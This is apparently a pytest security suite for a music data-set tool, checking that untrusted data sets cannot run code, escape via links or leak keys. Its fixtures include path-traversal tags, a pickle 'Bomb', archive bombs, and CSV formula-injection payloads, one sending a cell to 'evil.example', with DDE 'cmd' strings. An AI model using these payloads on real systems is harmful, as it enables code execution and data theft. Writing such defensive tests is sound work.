"""A data set may come from a stranger: nothing in it is run, nothing outside it is touched, no secret gets into it."""

import ast
import csv
import io
import json
import os
import pickle
import socket
import struct
import time
import urllib.parse
import zipfile
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import hypothesis
import numpy as np
import pytest

from library import make_track, write
from mirkit import engines
from mirkit.cli import main
from mirkit.engines import run_serially
from mirkit.errors import printable
from mirkit.export import formulas
from mirkit.export.targets import tables
from mirkit.store import read_info, user_settings_path
from text_server import Response, text_server

SRC = Path(__file__).resolve().parents[2] / "src" / "mirkit"
POSIX = pytest.mark.skipif(os.name == "nt", reason="links and pipes as POSIX systems have them")

#: What runs whatever it is given, and the files that may use it: on their own processes and their own cache alone,
#: on llama.cpp's programs and the trainer's code (lists of words, no shell), with a YAML loader of plain values,
#: and on arrays that hold no objects.
FORBIDDEN = {
    "eval": (),
    "exec": (),
    "compile": (),
    "__import__": (),
    "os.system": (),
    "os.popen": (),
    "marshal.loads": (),
    "pickle.load": (),
    # messages between the processes of a run
    "pickle.loads": ("engines/worker.py", "engines/forks.py", "models/device_server.py"),
    "pickle.Unpickler": (),
    "shelve.open": (),
    "subprocess.Popen": (
        "engines/processes.py",
        "models/captioners/llama.py",
    ),
    "subprocess.run": ("export/targets/sat.py", "models/stable_audio.py"),
    "subprocess.check_output": (),
    "yaml.load": ("models/safe_load.py",),
    "shutil.unpack_archive": (),
    "np.load": (
        "export/series.py",
        "export/targets/sat_latents.py",
        "separation/network.py",
    ),  # without pickles, see below
    "numpy.load": (),
}


@pytest.fixture
def run(monkeypatch: pytest.MonkeyPatch) -> Callable[..., int]:
    monkeypatch.setattr(engines, "run", lambda work, items, **_: run_serially(work, items))
    return lambda *words: main(list(map(str, words)))


@pytest.fixture
def library(tmp_path: Path) -> Path:
    make_track(tmp_path / "library" / "A", seconds=2.0)
    return tmp_path / "library"


@cache
def nodes() -> list[tuple[str, ast.AST]]:
    """Every node of the package's syntax trees, with its file."""
    files = {path.relative_to(SRC).as_posix(): path.read_text(encoding="utf-8") for path in SRC.rglob("*.py")}
    return [(file, node) for file, text in sorted(files.items()) for node in ast.walk(ast.parse(text))]


@cache
def calls() -> list[tuple[str, str, ast.Call]]:
    """Every call in the package: file, name, node."""
    return [(file, ast.unparse(node.func), node) for file, node in nodes() if isinstance(node, ast.Call)]


def test_nothing_runs_what_it_is_given() -> None:
    found = [(file, name) for file, name, _ in calls() if file not in FORBIDDEN.get(name, (file,))]
    assert not found


def test_no_shell_no_pickles_no_weights_that_are_code() -> None:
    for file, name, call in calls():
        given = {word.arg: ast.unparse(word.value) for word in call.keywords}
        assert given.get("shell", "False") == "False", f"{file}: {name}"
        assert given.get("allow_pickle", "False") == "False", f"{file}: {name}"
        if name == "torch.load":
            assert given.get("weights_only") == "True", file


#: Calls that name the address by a constant.
LOOPBACK = {("models/captioners/llama.py", "free.bind")}


def test_servers_listen_on_this_machine_only() -> None:
    from mirkit.models.captioners import llama

    assert llama._HOST == "127.0.0.1"
    for file, node in nodes():
        if isinstance(node, ast.Constant) and isinstance(node.value, str):
            address = file != "dataset/query/syntax.py"  # where it is an operator
            assert not (address and node.value in ("0.0.0.0", "::")), file
    for file, name, call in calls():
        if name.rpartition(".")[2] in ("bind", "HTTPServer", "TCPServer", "ThreadingHTTPServer", "create_server"):
            assert "127.0.0.1" in ast.unparse(call) or (file, name) in LOOPBACK, f"{file}: {name}"


HOSTILE_TAGS = (
    "..",
    "../../escape",
    "/etc/cron.d/x",
    "..\\..\\x",
    "C:\\x",
    "CON",
    "~/.ssh/x",
    "<script>alert(1)</script>",
)


def test_tags_name_nothing_but_a_folder(tmp_path: Path, run: Callable[..., int]) -> None:
    import av

    root = tmp_path / "outer" / "library"
    root.mkdir(parents=True)
    for number, title in enumerate(HOSTILE_TAGS):
        with av.open(str(root / f"{number}.flac"), "w") as out:
            out.metadata.update({"title": title, "artist": title, "album": title})
            stream = out.add_stream("flac", rate=44100, layout="mono", format="s16")
            frame = av.AudioFrame.from_ndarray(np.full((1, 4410), number, np.int16), format="s16", layout="mono")
            frame.sample_rate = 44100
            out.mux(stream.encode(frame))
            out.mux(stream.encode(None))
    assert run("organize", root) == 0
    assert [path.name for path in tmp_path.iterdir()] == ["outer"]
    assert [path.name for path in (tmp_path / "outer").iterdir()] == ["library"]
    mixes = list(root.rglob("full_mix.flac"))
    assert len(mixes) == len(HOSTILE_TAGS)
    assert {mix.parent.parent for mix in mixes} == {root}
    assert not any(set(mix.parent.name) & set('/\\<>:"|?*') for mix in mixes)


@POSIX
@pytest.mark.parametrize(
    "kind",
    [
        "INFO",
        "PROVENANCE",
        *(pytest.param(kind, marks=pytest.mark.slow) for kind in ("BEATS_GRID", "ONSETS", "CURVES.npz")),
    ],
)
def test_a_sidecar_that_is_a_link_out_of_the_set_is_neither_read_nor_written(
    kind: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "config.json"
    outside.write_text('{"secret": "s3cr3t"}')
    link = library / "A" / f"A.{kind}"
    link.symlink_to("../../config.json")
    make_track(library / "B", seconds=1.0, seed=1)
    for words in (("run", library), ("run", library, "--overwrite"), ("extract", library / "A", "--overwrite")):
        assert run(*words) == 1
        told = capsys.readouterr().err
        assert f"{link.name}: a link out of the data set, to {outside}" in told
        assert "a bug" not in told
    run("verify", library)
    run("stats", library, "-o", library / "stats.json")
    run("report", library, "--out", tmp_path / "site")
    assert "a bug" not in capsys.readouterr().err
    assert link.is_symlink()
    assert outside.read_text() == '{"secret": "s3cr3t"}'
    for path in (*library.rglob("*"), *(tmp_path / "site").rglob("*")):
        assert not path.is_file() or path.is_symlink() or b"s3cr3t" not in path.read_bytes(), path
    assert "lufs" in read_info(library / "B" / "B.INFO"), "the other tracks are done"
    link.unlink()
    assert run("run", library) == 0


@POSIX
@pytest.mark.parametrize("leads", ["mirkit.toml", "nowhere"])
def test_settings_that_are_a_link_out_of_the_set_are_neither_read_nor_written(
    leads: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "mirkit.toml").write_text("[crop]\ntail = 's3cr3t'\n")
    (library / "mirkit.toml").symlink_to(tmp_path / leads)
    for words in (("run", library), ("init", library)):
        assert run(*words) == 2
        told = capsys.readouterr().err
        assert f"{library / 'mirkit.toml'}: a link out of the data set" in told
        assert "s3cr3t" not in told
    assert (library / "mirkit.toml").is_symlink()
    assert not (tmp_path / "nowhere").exists()


@POSIX
def test_links_within_the_set_and_of_the_users_own_sound_work(
    tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    """The set is a link, a track's folder is one, mixes and stems are; sidecars lead to each other in the set."""
    make_track(tmp_path / "music" / "One", stems=True, seconds=2.0)
    make_track(tmp_path / "music" / "Linked", seconds=2.0, seed=1)
    disk = tmp_path / "disk"
    (disk / "A").mkdir(parents=True)
    for part in ("full_mix", "drums", "bass", "other", "vocals"):
        (disk / "A" / f"{part}.flac").symlink_to(tmp_path / "music" / "One" / f"{part}.flac")
    (disk / "Linked").symlink_to(tmp_path / "music" / "Linked")
    (disk / "infos").mkdir()
    (disk / "infos" / "A.INFO").write_text('{"mine": 1}')
    (disk / "A" / "A.INFO").symlink_to("../infos/A.INFO")
    (disk / "A" / "grid.json").write_text('{"beats": [0.5], "downbeats": [0.5], "bpm": 120, "total_beats": 1}')
    (disk / "A" / "A.BEATS_GRID").symlink_to("grid.json")
    (tmp_path / "library").symlink_to(disk)
    assert run("run", tmp_path / "library") == 0, capsys.readouterr().err
    found = read_info(disk / "A" / "A.INFO")
    assert found["mine"] == 1
    assert "lufs" in found
    assert "lufs" in read_info(tmp_path / "music" / "Linked" / "Linked.INFO")
    assert (disk / "A" / "drums.flac").is_symlink()
    assert run("verify", tmp_path / "library") == 0


@POSIX
@pytest.mark.parametrize(
    ("target", "loose"), [(".docker/config.json", False), ("notes.json", False), (".docker/config.json", True)]
)
def test_a_track_in_the_home_folder_does_not_make_it_all_a_data_set(
    target: str, loose: bool, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / target
    secret.parent.mkdir(exist_ok=True)
    secret.write_text('{"secret": "s3cr3t"}')
    track = make_track(tmp_path / "T", seconds=2.0)
    link, path = track / "T.INFO", track
    if loose:
        path = (track / "full_mix.flac").rename(tmp_path / "T.flac")
        link = tmp_path / "T.INFO"
    link.symlink_to(secret)
    assert run("loudness", path) == 1
    told = capsys.readouterr().err
    assert f"FAILED {path.name}: {link.name}: a link to " in told
    assert f"{secret.name}, which is no .INFO; it is not read or written" in told
    assert run("loudness", path) == 1, "also once the folder has settings"
    assert link.is_symlink()


@POSIX
def test_the_journal_is_not_written_where_a_link_leads(
    tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    write(tmp_path / "library" / "song.flac", np.zeros((1, 44100), np.float32))
    for target in ("profile", "nowhere"):
        (tmp_path / "profile").write_text("# mine\n")
        (tmp_path / "library" / ".mirkit-organize.jsonl").symlink_to(tmp_path / target)
        assert run("organize", tmp_path / "library") == 1
        assert "a link out of the data set" in capsys.readouterr().err
        assert (tmp_path / "profile").read_text() == "# mine\n"
        assert not (tmp_path / "nowhere").exists()
        assert (tmp_path / "library" / "song.flac").is_file()
        (tmp_path / "library" / ".mirkit-organize.jsonl").unlink()


@POSIX
def test_links_of_a_set_behind_a_url_are_treated_alike(
    library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("fsspec")
    make_track(library / "B", seconds=2.0, seed=1)
    secrets, logs = tmp_path / "secrets", tmp_path / "documents"
    secrets.write_text('{"secret": "s3cr3t"}')
    logs.mkdir()
    for number in range(30):
        (logs / f"{number}.jsonl").write_text("mine")
    (library / "A" / "A.INFO").symlink_to(secrets)
    (library / ".mirkit").mkdir()
    (library / ".mirkit" / "log").symlink_to(logs)
    run("run", f"file://{library}")
    told = capsys.readouterr().err
    assert "A.INFO: a link out of the data set" in told
    assert "a bug" not in told
    assert len(list(logs.iterdir())) == 30
    assert secrets.read_text() == '{"secret": "s3cr3t"}'
    assert (library / "A" / "A.INFO").is_symlink()
    assert "lufs" in read_info(library / "B" / "B.INFO")


@pytest.mark.parametrize("source", ["../../../private", "/private", "../..", "../../../../private", "../../.."])
def test_a_clip_names_no_source_but_its_own_track(
    source: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    """Its numbers would come from curves of the user's own, elsewhere."""
    private = make_track(tmp_path / "private", seconds=4.0)
    clip = make_track(library / "A" / "crops" / "A_001", seconds=1.0)
    assert run("extract", private) == 0
    cut = {"source": source, "set": "", "rate": 44100, "first": 0, "last": 44100, "length": 44100}
    if source == "/private":
        cut["source"] = str(private)
    stages = {"cut": {"mirkit": "0.1.0", "stage_version": 1, "parameters": cut}}
    (clip / "A_001.PROVENANCE").write_text(json.dumps({"stages": stages}))
    capsys.readouterr()
    assert run("window", clip, "--json") == 1
    said = capsys.readouterr()
    assert "private" not in said.out + said.err


@POSIX
@pytest.mark.parametrize("what", ["crops", "crops/A_001"])
def test_clips_are_not_cut_where_a_link_leads(
    what: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (library / "A" / what).parent.mkdir(exist_ok=True)
    (library / "A" / what).symlink_to(outside)
    assert run("crop", library / "A", "--seconds", "0.5", "--align", "free") == 1
    assert f"crop: {what}: the folder is a link, but clips must stay with their track" in capsys.readouterr().err
    assert not list(outside.iterdir())


@POSIX
def test_logs_are_not_written_where_a_link_leads(
    library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    for number in range(30):
        (outside / f"{number}.jsonl").touch()
    (library / ".mirkit").mkdir()
    (library / ".mirkit" / "log").symlink_to(outside)
    assert run("loudness", library, "--batch") == 0
    assert "leads out of the data set" in capsys.readouterr().err
    assert len(list(outside.iterdir())) == 30


@POSIX
@pytest.mark.parametrize("name", ["A.INFO", "A.PROVENANCE", "A.CURVES.npz", "A.BEATS_GRID"])
@pytest.mark.parametrize("kind", ["pipe", "endless device"])
def test_what_stands_in_for_a_sidecar_holds_nothing_up(
    name: str, kind: str, library: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    if kind == "pipe":
        os.mkfifo(library / "A" / name)
    else:
        (library / "A" / name).symlink_to("/dev/zero")
    assert run("rhythm", library / "A") in (0, 1)
    assert run("verify", library) == 1
    assert "a bug" not in capsys.readouterr().err


class Bomb:
    """Leaves a trace when it is unpickled."""

    def __init__(self, trace: Path) -> None:
        self.trace = trace

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.trace,)


def npz(path: Path, array: bytes) -> None:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("full_mix/loudness/energy.npy", array)


def object_array(trace: Path) -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([Bomb(trace)]), allow_pickle=True)
    return file.getvalue()


def bomb(path: Path) -> None:
    """An archive whose table of contents says what would come out: a gigabyte."""
    npz(path, bytes(1000))
    path.write_bytes(path.read_bytes().replace(struct.pack("<I", 1000), struct.pack("<I", 2**30)))


def claiming(gigabytes: int) -> bytes:
    header = f"{{'descr': '<f8', 'fortran_order': False, 'shape': ({gigabytes * 2**27},), }}".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header) + 1) + header + b"\n"


CURVES: dict[str, Callable[[Path, Path], object]] = {
    "a pickle": lambda path, trace: path.write_bytes(pickle.dumps(Bomb(trace))),
    "pickles in an archive": lambda path, trace: npz(path, object_array(trace)),
    "an array of a terabyte": lambda path, trace: npz(path, claiming(1024)),
    "a gigabyte of nothing": lambda path, trace: bomb(path),
}


@pytest.mark.parametrize("kind", CURVES)
def test_curves_of_a_stranger_are_measured_anew(
    kind: str, library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    path = library / "A" / "A.CURVES.npz"
    CURVES[kind](path, tmp_path / "trace")
    hostile = path.read_bytes()
    assert run("loudness", library / "A") == 0
    assert "measured again" in capsys.readouterr().err
    assert read_info(library / "A" / "A.INFO")["lufs"] is not None
    assert path.with_name("A.CURVES.npz.unreadable-1").read_bytes() == hostile
    assert not (tmp_path / "trace").exists()


#: What a stranger may write into mirkit.toml, and the option that the user would give instead.
ADDRESSES = {
    "texts.program": ("/bin/sh", "--program"),
    "texts.projector": ("mmproj.gguf", "--projector"),
    "texts.url": ("http://127.0.0.1:18999", "--url"),
    "texts.model": ("library/x.gguf", "--model"),
    "separation.model": ("~/net.th", "--model"),
    "rhythm.model": ("..", "--beat-model"),
    "drums.model": ("C:\\net.pth", "--drum-model"),
}


@pytest.mark.parametrize("name", ADDRESSES)
@pytest.mark.parametrize("command", ["run", "describe", "verify", "init", "stats"])
def test_a_data_set_names_no_program_file_or_server(
    command: str, name: str, library: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    value, option = ADDRESSES[name]
    section, _, key = name.partition(".")
    (library / "mirkit.toml").write_text(f"[{section}]\n{key} = {json.dumps(value)}\n")
    assert run(command, library, *(["--batch"] if command == "describe" else [])) == 2
    (line,) = capsys.readouterr().err.splitlines()
    assert line.startswith(f"mirkit: {library / 'mirkit.toml'}: {name} = {printable(value)}: a data set may")
    variable = f"MIRKIT_{section}_{key}".upper()
    assert line.endswith(
        f"; put it into your own settings, {user_settings_path()}, into the environment as {variable}, or give {option}"
    )
    assert not (library / "A" / "A.INFO").exists()


@POSIX
@pytest.mark.parametrize("program", ["/bin/sh", "library/tool"])
def test_no_program_of_a_stranger_runs(
    program: str, library: Path, tmp_path: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """As it was: `sh -m MODEL` ran the model as a script, and an executable that came with the set was run."""
    monkeypatch.chdir(tmp_path)
    trace = tmp_path / "trace"
    (library / "tool").write_text(f"#!/bin/sh\ntouch '{trace}'\n")
    (library / "tool").chmod(0o755)
    (library / "x.gguf").write_text(f"GGUF=1\ntouch '{trace}'\n")
    (library / "mmproj-x.gguf").write_text("GGUF")
    for model in ("", 'model = "library/x.gguf"\n'):
        settings = f'[backends]\ntexts = "llama"\n[texts]\nprogram = "{program}"\n{model}'
        (library / "mirkit.toml").write_text(settings)
        for command in ("describe", "run"):
            assert run(command, library, *(["--batch"] if command == "describe" else [])) == 2
    monkeypatch.chdir(library)
    assert run("describe", "A") == 2
    assert not trace.exists()


def test_a_file_that_is_called_like_a_model_is_not_loaded(
    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    (library / "beat_this").write_bytes(pickle.dumps(Bomb(library / "trace")))
    (library / "mirkit.toml").write_text('[rhythm]\nmodel = "beat_this"\n')
    assert run("beats", library / "A") == 2
    assert "rhythm.model = beat_this: a data set may name a model" in capsys.readouterr().err
    (library / "beat_this").unlink()
    assert run("beats", library / "A") == 0, capsys.readouterr().err


def test_a_data_set_sends_nothing_and_no_key(
    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MIRKIT_TEXTS_KEY", "sk-secret-of-user")
    with text_server() as server:
        (library / "mirkit.toml").write_text(f'[backends]\ntexts = "http"\n[texts]\nurl = "{server.url}"\n')
        assert run("describe", library, "--batch") == 2
        assert "sk-secret" not in capsys.readouterr().err
        assert not server.requests
        # The user's own address goes before all, and the key goes there alone.
        (library / "mirkit.toml").write_text('[backends]\ntexts = "http"\n')
        monkeypatch.setenv("MIRKIT_TEXTS_URL", server.url)
        assert run("describe", library, "--batch") == 0
        host = server.url.removeprefix("http://")
        assert (
            f"the audio of 1 track will be sent to http://{host}, with the key in MIRKIT_TEXTS_KEY"
            in capsys.readouterr().out
        )
        assert {headers["Authorization"] for headers in server.headers} == {"Bearer sk-secret-of-user"}


def test_a_redirect_carries_no_key_to_another_host(
    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("MIRKIT_TEXTS_KEY", "sk-secret-of-user")
    with text_server() as other, text_server() as server:
        for status in (301, 302, 303, 307, 308):
            server.script.append(Response(status, headers={"Location": f"{other.url}/v1/chat/completions"}))
            assert run("describe", library, "--batch", "--only", "full", "--url", server.url) == 1
            assert f"answers {status}" in capsys.readouterr().err
        assert not other.requests


@pytest.mark.parametrize(
    "url",
    [
        "http://192.0.2.1:8080",
        "http://example.invalid",
        "http://localhost.example.invalid:8080",
        "http://127.0.0.1.example.invalid",
        "http://[2001:db8::1]:8080",
        "http://2130706433:8080",
    ],
)
def test_plain_http_goes_to_this_machine_alone(
    url: str,
    library: Path,
    run: Callable[..., int],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    monkeypatch.setattr(socket, "create_connection", lambda *_, **__: pytest.fail("a connection was made"))
    assert run("describe", library, "--batch", "--url", url) == 2
    told = capsys.readouterr().err
    assert ": not encrypted, so the network could read the sound and the key; use https, or allow" in told
    assert str(user_settings_path()) in told
    # A data set cannot allow it.
    (library / "mirkit.toml").write_text(f'[texts]\nallow_http = ["{urllib.parse.urlsplit(url).hostname}"]\n')
    assert run("describe", library, "--batch", "--url", url) == 2
    assert "texts.allow_http" in capsys.readouterr().err


@pytest.mark.parametrize(
    "url",
    [
        "http://127.0.0.1@example.invalid",
        "http://@example.invalid",
        "https://example.invalid/?x=1",
        "https://example.invalid/#x",
        "https://example.invalid:99999",
        "https://[::1",
        "file:///etc/passwd",
        "https://example.invalid\n.evil",
    ],
)
def test_an_address_is_one_host(
    url: str, library: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    assert run("describe", library, "--batch", "--url", url) == 2
    assert "--url must be an address such as" in capsys.readouterr().err


def test_the_user_may_allow_plain_http(
    library: Path, tmp_path: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The network is not asked: the name of the host is made one of this machine."""
    mine = tmp_path / "mine.toml"
    mine.write_text('[texts]\nallow_http = ["Studio.example"]\n')
    monkeypatch.setenv("MIRKIT_CONFIG", str(mine))
    monkeypatch.setenv("no_proxy", "*")
    with text_server() as server:
        connect, port = socket.create_connection, int(server.url.rpartition(":")[2])
        monkeypatch.setattr(
            socket, "create_connection", lambda address, *more, **named: connect(("127.0.0.1", port), *more, **named)
        )
        assert run("describe", library, "--batch", "--url", "http://studio.example:8080") == 0
        assert len(server.asked) == 5


#: What a spreadsheet runs, or may run; then what it does not.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
    '"=1+1',
    "'=1+1",
    "''=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff201",
    "\u3000\uff1d1",
    "\ufeff=1",
    "\u202e=1",
    "\xad\u2066\uff1d1",
    "\tplain",
)
HARMLESS = ("plain", "'tis", "a=b", "1 + 1", "", "'", "''", "AC/DC", "Track - 1", "\u4e2d=")


@pytest.mark.parametrize("text", FORMULAS + HARMLESS)
def test_cells_come_back_as_they_were(text: str) -> None:
    assert (formulas.escape_formula(text) == text) == (text in HARMLESS)
    assert formulas.unescape_formula(formulas.escape_formula(text)) == text
    assert (
        not formulas.escape_formula(text)[:1].strip()
        or formulas.escape_formula(text)[0] not in '=+-@\uff1d\uff0b\uff0d\uff20"'
    )


@hypothesis.given(hypothesis.strategies.text("'=+-@\t\r\n \"\uff1da", max_size=8))
def test_any_cell_comes_back_as_it_was(text: str) -> None:
    assert formulas.unescape_formula(formulas.escape_formula(text)) == text
    assert formulas.escape_formula(text).lstrip('\ufeff "')[:1] not in ("=", "+", "-", "@", "\uff1d", "\t", "\r")


def test_a_table_holds_no_formula(
    library: Path, tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    import av

    for number, title in enumerate(FORMULAS[:4]):
        (library / f"={number}").mkdir()
        with av.open(str(library / f"={number}" / "full_mix.flac"), "w") as out:
            out.metadata.update({"title": title, "artist": title, "album": title})
            stream = out.add_stream("flac", rate=44100, layout="mono", format="s16")
            noise = np.random.default_rng(number).integers(-9000, 9000, (1, 88200), dtype=np.int16)
            frame = av.AudioFrame.from_ndarray(noise, format="s16", layout="mono")
            frame.sample_rate = 44100
            out.mux(stream.encode(frame))
            out.mux(stream.encode(None))
    assert run("run", library) == 0
    for name, raw in (("guarded.csv", ()), ("raw.csv", ("--raw",))):
        assert run("export", "csv", tmp_path / name, library, "--from", "tracks", "--check", *raw) == 0
    assert run("export", "jsonl", tmp_path / "t.jsonl", library, "--from", "tracks") == 0
    lines = [json.loads(line) for line in (tmp_path / "t.jsonl").read_text().splitlines()]
    assert {line["artist"] for line in lines if "artist" in line} == set(FORMULAS[:4]), "not altered"
    with open(tmp_path / "guarded.csv", encoding="utf-8", newline="") as file:
        written = list(csv.DictReader(file))
    for row in written:
        assert all(
            not (row[name] or " ").startswith(("=", "+", "-", "@")) for name in ("from", "source", "artist", "title")
        )
        assert float(row["lufs"]) < 0, "numbers are no text"
        assert row["lufs"].startswith("-")
    for name, raw in (("guarded.csv", False), ("raw.csv", True)):
        with open(tmp_path / name, encoding="utf-8", newline="") as file:
            read = list(tables.read_rows(file, raw=raw))
        assert [row["from"] for row in read] == [line["from"] for line in lines]
        assert [row.get("artist") for row in read] == [line.get("artist") for line in lines]
        assert [float(row["lufs"]) for row in read] == [line["lufs"] for line in lines]
    assert "'=" not in (tmp_path / "raw.csv").read_text()
    assert tables.to_csv([{"artist": "=1", "lufs": -7.5}], raw=True) != tables.to_csv([{"artist": "=1", "lufs": -7.5}])


@pytest.mark.slow
def test_weights_of_a_stranger_run_no_code(library: Path, tmp_path: Path, run: Callable[..., int]) -> None:
    (library / "weights.ckpt").write_bytes(pickle.dumps(Bomb(tmp_path / "trace")))
    assert run("beats", library / "A", "--beat-model", library / "weights.ckpt") == 1
    assert not (tmp_path / "trace").exists()


def test_a_file_that_claims_weeks_costs_nothing(
    tmp_path: Path, run: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    path = write(tmp_path / "library" / "A" / "full_mix.flac", np.zeros((1, 44100), np.float32))
    content = bytearray(path.read_bytes())
    content[21] |= 0x0F  # the number of samples: 36 bits
    content[22:26] = b"\xff" * 4
    path.write_bytes(content)
    began = time.process_time()
    assert run("run", tmp_path / "library") == 1
    assert "states 432.9 h of audio; the limit is 24 h" in capsys.readouterr().err
    assert time.process_time() - began < 5
    assert sum(file.stat().st_size for file in tmp_path.rglob("*") if file.is_file()) < 100_000


def test_secrets_stay_where_they_are(
    library: Path, run: Callable[..., int], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = "s3cr3t-0b5cur3"
    for name in ("HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "GITHUB_TOKEN", "MY_PASSWORD"):
        monkeypatch.setenv(name, secret)
    monkeypatch.setenv("HTTPS_PROXY", f"http://user:{secret}@127.0.0.1:9")
    (library / "A" / "vocals.mp3").write_text("no sound")
    assert run("run", library, "--debug") == 1
    run("status", library)
    run("verify", library)
    run("doctor")
    said = capsys.readouterr()
    assert secret not in said.out + said.err
    for path in library.rglob("*"):
        assert not path.is_file() or secret.encode() not in path.read_bytes(), path
